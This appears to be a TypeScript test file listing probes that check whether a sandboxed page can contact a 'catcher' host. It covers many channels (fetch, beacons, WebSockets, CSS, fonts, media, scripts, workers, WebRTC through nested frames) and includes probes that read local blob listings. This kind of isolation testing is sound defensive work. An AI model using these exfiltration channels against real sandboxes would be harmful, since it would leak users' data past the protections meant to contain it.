/// Every way that a page has to ask another port of this machine for something.

import type { Probe } from "./types";

/// What is not in the sealed page's own window is in that of a page inside it.
const OWN_WINDOW = "No header of any engine speaks of WebRTC, and a page inside an output has a window of its own.";

export const network: readonly Probe[] = [
  { name: "fetches", seen: "arrival", attack: ({ catcher, mark }) => void fetch(`${catcher}/?${mark}`).catch(() => 0) },
  {
    name: "posts without asking for leave (no-cors)",
    seen: "arrival",
    attack: ({ catcher, mark }) => void fetch(catcher, { method: "POST", mode: "no-cors", body: mark }).catch(() => 0),
  },
  {
    name: "fetches while it goes away",
    seen: "arrival",
    attack: ({ catcher, mark }) => void fetch(`${catcher}/?${mark}`, { keepalive: true }).catch(() => 0),
  },
  {
    name: "asks by XMLHttpRequest",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const request = new XMLHttpRequest();
      request.open("GET", `${catcher}/?${mark}`);
      request.send();
    },
  },
  {
    name: "opens a WebSocket",
    seen: "arrival",
    attack: ({ catcher, mark }) => void new WebSocket(`${catcher.replace("http", "ws")}/?${mark}`),
  },
  {
    name: "listens to an event source",
    seen: "arrival",
    attack: ({ catcher, mark }) => void new EventSource(`${catcher}/x.events?${mark}`),
  },
  { name: "sends a beacon", seen: "arrival", attack: ({ catcher, mark }) => void navigator.sendBeacon(catcher, mark) },
  {
    name: "loads an image",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      new Image().src = `${catcher}/x.svg?${mark}`;
    },
  },
  {
    name: "loads an image inside SVG",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const holder = document.createElement("div");
      holder.innerHTML = `<svg width="9" height="9"><image width="9" height="9" href="${catcher}/x.svg?${mark}"/></svg>`;
      document.body.append(holder);
    },
  },
  {
    name: "loads a style sheet",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.href = `${catcher}/x.css?${mark}`;
      document.head.append(link);
    },
  },
  {
    name: "imports a style sheet",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const style = document.createElement("style");
      style.textContent = `@import url("${catcher}/x.css?${mark}");`;
      document.head.append(style);
    },
  },
  {
    name: "loads a background by style",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      document.body.style.backgroundImage = `url("${catcher}/x.svg?${mark}")`;
    },
  },
  {
    name: "loads a font",
    seen: "arrival",
    attack: ({ catcher, mark }) =>
      void new FontFace("probe", `url("${catcher}/x.woff2?${mark}")`).load().catch(() => 0),
  },
  {
    name: "loads a sound",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const sound = document.createElement("audio");
      sound.src = `${catcher}/x.mp3?${mark}`;
      sound.preload = "auto";
      document.body.append(sound);
      sound.load();
    },
  },
  {
    name: "loads a film's poster",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const film = document.createElement("video");
      film.poster = `${catcher}/x.svg?${mark}`;
      document.body.append(film);
    },
  },
  {
    name: "loads a script",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const script = document.createElement("script");
      script.src = `${catcher}/x.js?${mark}`;
      document.head.append(script);
    },
  },
  {
    name: "imports a module",
    seen: "arrival",
    // Made from text, so that no build step looks at the import.
    attack: ({ catcher, mark }) => {
      const script = document.createElement("script");
      script.type = "module";
      script.textContent = `import("${catcher}/x.js?${mark}").catch(() => 0)`;
      document.head.append(script);
    },
  },
  {
    name: "preloads a module",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const link = document.createElement("link");
      link.rel = "modulepreload";
      link.href = `${catcher}/x.js?${mark}`;
      document.head.append(link);
    },
  },
  {
    name: "preloads an image",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const link = document.createElement("link");
      link.rel = "preload";
      link.as = "image";
      link.href = `${catcher}/x.svg?${mark}`;
      document.head.append(link);
    },
  },
  {
    name: "prefetches a page",
    seen: "arrival",
    // WebKit has no prefetch by default.
    tame: ["webkit"],
    attack: ({ catcher, mark }) => {
      const link = document.createElement("link");
      link.rel = "prefetch";
      link.href = `${catcher}/?${mark}`;
      document.head.append(link);
    },
  },
  {
    name: "loads a picture by a set of sources",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const image = new Image();
      image.srcset = `${catcher}/x.svg?${mark} 1x`;
      document.body.append(image);
    },
  },
  {
    name: "loads a picture as a button",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const button = document.createElement("input");
      button.type = "image";
      button.src = `${catcher}/x.svg?${mark}`;
      document.body.append(button);
    },
  },
  {
    name: "loads a picture as content of a style",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const style = document.createElement("style");
      style.textContent = `body::after { content: url("${catcher}/x.svg?${mark}"); }`;
      document.head.append(style);
    },
  },
  {
    name: "loads a filter of a style",
    seen: "arrival",
    // An unknown document of another origin is asked for and not taken, or not even asked for.
    tame: ["firefox", "webkit"],
    attack: ({ catcher, mark }) => {
      const style = document.createElement("style");
      style.textContent = `body { mask-image: url("${catcher}/x.svg?${mark}"); }`;
      document.head.append(style);
    },
  },
  {
    name: "loads a film",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const film = document.createElement("video");
      const source = document.createElement("source");
      source.src = `${catcher}/x.mp4?${mark}`;
      film.preload = "auto";
      film.append(source);
      document.body.append(film);
      film.load();
    },
  },
  {
    name: "imports a module by a static import",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const script = document.createElement("script");
      script.type = "module";
      script.textContent = `import "${catcher}/x.js?${mark}";`;
      document.head.append(script);
    },
  },
  {
    name: "lists the blobs",
    seen: "loot",
    attack: async () => {
      for (const path of ["/blob/", "/blob", "/plugins/", "/"]) {
        const answer = await fetch(new URL(path, location.href));
        if (answer.ok) {
          return answer.text();
        }
      }
      return null;
    },
  },
  {
    name: "speaks WebRTC",
    seen: "loot",
    // WebKitGTK is built without it.
    tame: ["webkit"],
    attack: async () => {
      const peer = new RTCPeerConnection();
      peer.createDataChannel("out");
      await peer.setLocalDescription();
      return new Promise((resolve) => peer.addEventListener("icecandidate", (event) => resolve(event.type)));
    },
  },
  {
    name: "speaks WebRTC from an empty frame of its own",
    seen: "loot",
    tame: ["webkit"],
    attack: async () => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      const inner = frame.contentWindow as unknown as typeof globalThis;
      const peer = new inner.RTCPeerConnection();
      peer.createDataChannel("out");
      await peer.setLocalDescription();
      return new Promise((resolve) => peer.addEventListener("icecandidate", (event) => resolve(event.type)));
    },
  },
  {
    name: "speaks WebRTC from a page that it carries inside itself",
    seen: "loot",
    tame: ["webkit"],
    through: { chromium: OWN_WINDOW, firefox: OWN_WINDOW },
    attack: () => {
      const frame = document.createElement("iframe");
      const code = async () => {
        const peer = new RTCPeerConnection();
        peer.createDataChannel("out");
        peer.onicecandidate = ({ type }) => parent.postMessage({ said: type }, "*");
        await peer.setLocalDescription();
      };
      frame.srcdoc = `<script>(${String(code)})()</${"script"}>`;
      return new Promise((resolve) => {
        addEventListener("message", ({ data }: MessageEvent<{ readonly said?: string }>) => {
          if (data.said !== undefined) {
            resolve(data.said);
          }
        });
        setTimeout(resolve, 2_000);
        document.body.append(frame);
      });
    },
  },
  {
    name: "asks from a worker of its own making",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const code = new Blob([`fetch("${catcher}/?${mark}").catch(() => 0)`], { type: "text/javascript" });
      void new Worker(URL.createObjectURL(code));
    },
  },
  {
    name: "imports a script into a worker of its own making",
    seen: "arrival",
    attack: ({ catcher, mark }) => {
      const code = new Blob([`importScripts("${catcher}/x.js?${mark}")`], { type: "text/javascript" });
      void new Worker(URL.createObjectURL(code));
    },
  },
];
